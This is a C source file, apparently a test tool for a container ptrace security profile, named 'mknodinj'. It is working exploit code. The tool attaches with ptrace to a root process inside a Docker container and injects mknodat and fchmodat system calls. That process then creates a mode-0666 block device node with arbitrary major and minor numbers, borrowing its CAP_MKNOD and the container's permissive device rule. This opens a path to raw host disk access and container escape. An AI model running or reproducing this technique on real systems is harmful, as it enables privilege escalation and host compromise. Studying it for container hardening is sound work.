#define _GNU_SOURCE
/* mknodinj: the ptrace profile's tool (the target's ids, root here, with
 * CAP_SYS_PTRACE) borrows the CAP_MKNOD of a root process of the container
 * (Docker's default set has it). It PTRACE_ATTACHes PID, makes it call
 * mknodat(AT_FDCWD, NODE, S_IFBLK, MAJOR:MINOR) and fchmodat(NODE, 0666),
 * and detaches. The mknod is checked against PID's cgroup (Docker's rules
 * allow mknod of any device, `b *:* m`), not the tool's. x86_64 only.
 * Prints what each call returned.
 * usage: mknodinj PID NODE MAJOR MINOR */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static pid_t pid;
static struct user_regs_struct saved;
static unsigned long sc;

/* one system call in the tracee, at the syscall instruction it stopped at */
static long call(long nr, long a, long b, long c, long d)
{
	struct user_regs_struct r = saved;
	int st;
	r.orig_rax = -1UL;
	r.rax = (unsigned long)nr;
	r.rdi = (unsigned long)a;
	r.rsi = (unsigned long)b;
	r.rdx = (unsigned long)c;
	r.r10 = (unsigned long)d;
	r.rip = sc;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0)
		return -errno;
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, NULL, &r) < 0)
		return -EIO;
	return (long)r.rax;
}

static const char *res(long r)
{
	static char b[64];
	if (r >= 0) {
		snprintf(b, sizeof(b), "ok (%ld)", r);
		return b;
	}
	return strerror((int)-r);
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: mknodinj PID NODE MAJOR MINOR\n");
		return 2;
	}
	pid = atoi(argv[1]);
	const char *node = argv[2];
	dev_t dev = makedev(atoi(argv[3]), atoi(argv[4]));
	int st;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		printf("mknodinj: attach: %s\n", strerror(errno));
		return 3;
	}
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, NULL, &saved) < 0) {
		printf("mknodinj: attach: no stop\n");
		return 3;
	}
	sc = saved.rip - 2; /* stopped in a syscall: `syscall` is just before rip */
	errno = 0;
	long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)sc, NULL);
	if (errno || (word & 0xffff) != 0x050f) {
		printf("mknodinj: no syscall instruction at rip-2\n");
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		return 3;
	}
	unsigned long buf = (saved.rsp - 1024) & ~7UL; /* below the red zone */
	for (size_t i = 0; i <= strlen(node); i += sizeof(long)) {
		long w = 0;
		memcpy(&w, node + i, strlen(node) + 1 - i < sizeof(long) ? strlen(node) + 1 - i : sizeof(long));
		(void)ptrace(PTRACE_POKEDATA, pid, (void *)(buf + i), (void *)w);
	}
	(void)call(SYS_unlinkat, AT_FDCWD, (long)buf, 0, 0);
	long r = call(SYS_mknodat, AT_FDCWD, (long)buf, S_IFBLK | 0600, (long)dev);
	printf("mknodinj: PID %d makes %s: %s\n", (int)pid, node, res(r));
	if (r == 0)
		printf("mknodinj: chmod 0666: %s\n", res(call(SYS_fchmodat, AT_FDCWD, (long)buf, 0666, 0)));
	(void)ptrace(PTRACE_SETREGS, pid, NULL, &saved);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return r == 0 ? 0 : 1;
}
